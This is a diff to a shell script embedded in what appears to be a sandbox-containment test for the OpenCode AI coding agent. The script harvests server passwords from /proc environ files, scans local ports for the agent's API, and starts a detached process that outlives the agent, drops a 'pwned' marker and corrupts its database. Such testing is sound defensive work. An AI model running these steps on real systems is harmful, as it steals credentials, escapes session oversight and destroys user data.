@@ -923,12 +923,13 @@ for s in /var/run/docker.sock {socket}; do curl -s -m 2 --unix-socket "$s" http:
 pw=$(for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do {{ tr '\0' '\n' < "$f"; }} 2>/dev/null; done | sed -n 's/^\(OPENCODE_SERVER_PASSWORD\|FRO_BOT_OPENCODE_PASSWORD\)=//p' | head -1)
 pw=${{pw:-$OPENCODE_SERVER_PASSWORD}}
 echo "== password found=${{pw:+yes}}"
-for port in $(ss -ltnH | awk '{{print $4}}' | sed -n 's/^127\.0\.0\.1://p'); do
+# With a password, every local port is tried (only then: the scan would disturb tests run beside).
+[ -n "$pw" ] && for port in $(ss -ltnH | awk '{{print $4}}' | sed -n 's/^127\.0\.0\.1://p'); do
   body=$(curl -s -m 1 -u "opencode:$pw" "http://127.0.0.1:$port/session" 2>/dev/null)
   case "$body" in '[{{'*'"projectID"'*) echo "== api OPEN $port";; esac
 done
 echo "== api-end"
-setsid nohup sh -c 'sleep 5; echo pwned > {marker}; printf CORRUPTCORRUPTCORRUPT | dd of={data}/opencode.db bs=1 seek=0 conv=notrunc' >/dev/null 2>&1 < /dev/null &
+setsid nohup sh -c 'while kill -0 $OPENCODE_PID 2>/dev/null; do sleep 0.1; done; sleep 1; echo pwned > {marker}; printf CORRUPTCORRUPTCORRUPT | dd of={data}/opencode.db bs=1 seek=0 conv=notrunc' >/dev/null 2>&1 < /dev/null &
 echo "== writer started"
 "#,
             files = files.display(),
